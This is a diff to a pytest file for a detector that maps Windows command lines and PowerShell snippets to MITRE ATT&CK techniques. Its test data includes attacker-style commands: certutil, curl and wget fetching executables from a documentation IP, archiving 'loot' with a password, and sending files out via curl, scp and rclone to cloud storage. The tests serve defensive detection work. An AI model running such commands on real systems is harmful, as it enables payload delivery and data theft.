@@ -9,6 +9,7 @@ import pytest
 
 from graphcorr.syntax.behavior_rules import SCRIPT_MARKS, SCRIPTED, Rule
 from graphcorr.syntax.behaviors import LONGEST, LONGEST_SCRIPT, shown_by, shown_by_script
+from graphcorr.syntax.file_commands import FILERS
 
 
 def _told(image: str, line: str) -> list[tuple[str, str | None]]:
@@ -102,6 +103,13 @@ def test_a_command_shows_a_technique(image: str, line: str, technique: str) -> N
         ("certutil.exe", "certutil -verify a.cer"),
         ("curl.exe", "curl https://example.com/"),
         ("bitsadmin.exe", "bitsadmin /list"),
+        ("curl.exe", "curl https://cdn.example/bootstrap-datepicker@1.9.0/dist/x.js"),
+        ("curl.exe", "curl -d user=joe@corp.example https://example.com/"),
+        ("scp.exe", r"scp C:\a D:\b"),
+        ("scp.exe", r"scp web.example:/tmp/a C:\a"),
+        ("rclone.exe", r"rclone copy C:\a D:\b"),
+        ("rclone.exe", r"rclone copy remote:x C:\d"),
+        ("tar.exe", r"tar -C C:\download -xf x.tar"),
     ],
 )
 def test_what_looks_like_it_shows_nothing(image: str, line: str) -> None:
@@ -131,6 +139,16 @@ def test_what_looks_like_it_shows_nothing(image: str, line: str) -> None:
             "T1105",
             r"c:\t\a.exe",
         ),
+        ("7z.exe", r'7z a -p"my secret" -w"C:\Temp Dir" c:\t\loot.7z c:\d', "T1560.001", r"c:\t\loot.7z"),
+        ("zip.exe", r"zip -P pw out.zip c:\d", "T1560.001", "out.zip"),
+        ("tar.exe", r"tar --exclude x -cf a.tar c:\d", "T1560.001", "a.tar"),
+        ("tar.exe", r"tar czf a.tgz c:\d", "T1560.001", "a.tgz"),
+        ("certutil.exe", "certutil -urlcache -split -f http://203.0.113.7/d/a.exe", "T1105", "a.exe"),
+        ("curl.exe", r"curl --output-dir C:\t -O http://203.0.113.7/a.exe", "T1105", "a.exe"),
+        ("curl.exe", r"curl -fsSLo c:\t\a.exe http://203.0.113.7/a", "T1105", r"c:\t\a.exe"),
+        ("wget.exe", "wget -q http://203.0.113.7/d/a.exe?x=1", "T1105", "a.exe"),
+        ("curl.exe", "curl -d @c:\\t\\a.txt https://203.0.113.7/", "T1048", "c:\\t\\a.txt"),
+        ("scp.exe", r"scp -i key -P 22 c:\t\a.7z joe@web.example:/tmp", "T1048.002", r"c:\t\a.7z"),
         ("curl.exe", r"curl -T c:\t\out.7z ftp://203.0.113.7/", "T1048", r"c:\t\out.7z"),
         ("curl.exe", r"curl -F file=@c:\t\out.7z https://203.0.113.7/up", "T1048", r"c:\t\out.7z"),
         ("rclone.exe", r"rclone copy c:\t\out.7z mega:x", "T1567.002", r"c:\t\out.7z"),
@@ -189,6 +207,24 @@ filter Get-NetComputer { Get-ADComputer -Filter * }
 """
 
 
+PROXY = """#requires -version 3.0
+
+try { Microsoft.PowerShell.Core\\Set-StrictMode -Off } catch { }
+
+$script:MyModule = $MyInvocation.MyCommand.ScriptBlock.Module
+Get-NetAdapter
+"""
+
+
+def test_no_word_hides_a_script() -> None:
+    assert shown_by_script(PROXY) == ()
+    asked = {"T1087.002"}
+    assert {one.technique for one in shown_by_script("<# ConvertFrom-StringData @ #> Get-ADUser x")} == asked
+    assert {one.technique for one in shown_by_script("<# $script:MyModule = $MyInvocation #>\nGet-ADUser x")} == asked
+    assert {one.technique for one in shown_by_script("FunctionsToExport; Get-ADUser x")} == asked
+    assert shown_by_script("data m { ConvertFrom-StringData @'\nA = Get-ADUser\n'@ }") == ()
+
+
 def test_what_a_module_can_do_is_not_done() -> None:
     assert shown_by_script(POWERVIEW) == ()
     assert [one.technique for one in shown_by_script(POWERVIEW + "Get-NetUser")] == ["T1087.002"]
@@ -231,3 +267,20 @@ def test_no_more_than_a_bounded_text_is_looked_at() -> None:
     assert shown_by_script(" " * LONGEST_SCRIPT + "Get-ComputerInfo") == ()
     assert shown_by("sc.exe", "sc " + " " * LONGEST + "query") == ()
     assert LONGEST == 8_191  # what cmd.exe takes
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "certutil " + "-urlcache" * 400 + "http://" * 600,
+        "bitsadmin " + "/addfile," * 300 + "http://x," * 300 + "," * 2500,
+        "tar " + "c" * 4000 + "," * 4000,
+        "pscp c:\\a " + "@" * 8100,
+        "curl " + "-d" * 4000,
+    ],
+)
+def test_files_are_read_word_by_word(line: str) -> None:
+    """Each word is looked at once: these lines took regular expressions seconds."""
+    words = line.split()
+    read = FILERS[words[0]]
+    assert len(list(read(words[1:]))) <= 1
